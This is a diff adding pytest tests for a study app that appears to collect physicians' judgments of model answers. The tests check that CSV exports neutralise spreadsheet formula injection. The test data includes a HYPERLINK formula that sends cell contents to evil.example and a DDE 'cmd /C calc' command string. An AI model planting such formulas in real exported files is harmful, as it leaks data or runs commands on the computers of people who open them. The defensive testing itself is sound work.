@@ -175,3 +175,91 @@ def test_database_and_exports_are_not_static_files(server, engine, make_study, m
         assert "SQLite format" not in response.text and "preferred_system" not in response.text
         paths += 1
     record_figure("static", {"paths_tried": paths, "served": 0})
+
+
+# --- spreadsheet formula injection (issue 13) ------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+            "=cmd|' /C calc'!A0", 'a,=1+1;=2+2"', "- a bullet list answer"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def judged_hostile_study(engine, tmp_path):
+    """A real study whose question, answers and a physician's rationales start like formulas."""
+    from tests.app.conftest import write_answers
+
+    path = write_answers(tmp_path / "formulas.jsonl", len(FORMULAS))
+    rows = [json.loads(line) for line in path.read_text().splitlines()]
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        row["question"], row["outputs"]["sft"] = formula, formula
+    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
+    from app.study_files import read_study_items
+
+    with storage.transaction(engine) as session:
+        study = storage.create_study(session, name="formulas", systems=("sft", "dpo"),
+                                     items=read_study_items(path, ("sft", "dpo")))
+        user = storage.add_user(session, "dr_f", "physician", PASSWORD)
+        for formula in FORMULAS:
+            assignment = storage.next_assignment(session, study, user)
+            storage.submit_judgment(session, user, assignment.id, choice="tie", rationale=formula)
+        return study.name, storage.export_judgments(session, study)
+
+
+def neutralised_cells(csv_text: str, rows: list[dict]) -> int:
+    """Check every CSV cell against the stored value (a leading ' exactly where the value would
+    start a formula, the text otherwise unchanged); returns how many cells were neutralised."""
+    import csv
+    import io
+
+    parsed = list(csv.DictReader(io.StringIO(csv_text)))
+    assert len(parsed) == len(rows)
+    count = 0
+    for cells, row in zip(parsed, sorted(rows, key=lambda r: r["sequence"]), strict=True):
+        for column, cell in cells.items():
+            value = row[column]
+            expected = "" if value is None else str(value)
+            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+                expected, count = "'" + value, count + 1
+            assert cell == expected, (column, cell, value)
+            assert not cell.startswith(FORMULA_STARTS)
+    return count
+
+
+def test_csv_exports_neutralise_formulas_and_other_formats_keep_exact_text(engine, tmp_path, monkeypatch):
+    import pandas as pd
+    from typer.testing import CliRunner
+
+    from app.cli import app as cli
+    from app.exports import neutralise_formula, render
+
+    assert neutralise_formula(-3) == -3 and neutralise_formula("3 - 1") == "3 - 1" and neutralise_formula(None) is None
+    name, rows = judged_hostile_study(engine, tmp_path)
+    rows = sorted(rows, key=lambda r: r["sequence"])
+    neutralised = neutralised_cells(render(rows, "csv").decode(), rows)
+    starting = sum(f.startswith(FORMULA_STARTS) for f in FORMULAS)  # 'a,=1+1' is one quoted cell
+    assert neutralised == 3 * starting  # the question, an answer and the rationale of each
+    monkeypatch.setenv("MEDALIGN_DATABASE_URL", str(engine.url))
+    for fmt in ("csv", "jsonl", "parquet"):
+        result = CliRunner().invoke(cli, ["export", "--study", name, "--format", fmt, "--out", str(tmp_path / f"j.{fmt}")])
+        assert result.exit_code == 0, result.output
+    assert neutralised_cells((tmp_path / "j.csv").read_bytes().decode(), rows) == neutralised
+    exact = [json.loads(line) for line in (tmp_path / "j.jsonl").read_text().splitlines()]
+    assert sorted(exact, key=lambda r: r["sequence"]) == rows
+    parquet = pd.read_parquet(tmp_path / "j.parquet").sort_values("sequence")
+    for column in ("question", "answer_a", "answer_b", "rationale"):
+        assert list(parquet[column]) == [r[column] for r in rows]
+    record_figure("formula_injection", {"formulas_planted": len(FORMULAS), "places": ["question", "answer", "rationale"],
+                                        "csv_cells_neutralised": neutralised, "formula_cells_left_in_csv": 0,
+                                        "jsonl_parquet_exact": True})
+
+
+def test_csv_download_neutralises_formulas(server, engine, tmp_path):
+    name, rows = judged_hostile_study(engine, tmp_path)
+    with storage.transaction(engine) as session:
+        storage.add_user(session, "boss", "researcher", PASSWORD)
+    researcher = _login(server, "boss")
+    response = researcher.get(f"/export/{name}/judgments.csv")
+    assert response.status_code == 200
+    assert neutralised_cells(response.text, rows) == 3 * sum(f.startswith(FORMULA_STARTS) for f in FORMULAS)
+    exact = [json.loads(line) for line in researcher.get(f"/export/{name}/judgments.jsonl").text.splitlines()]
+    assert sorted(exact, key=lambda r: r["sequence"]) == sorted(rows, key=lambda r: r["sequence"])
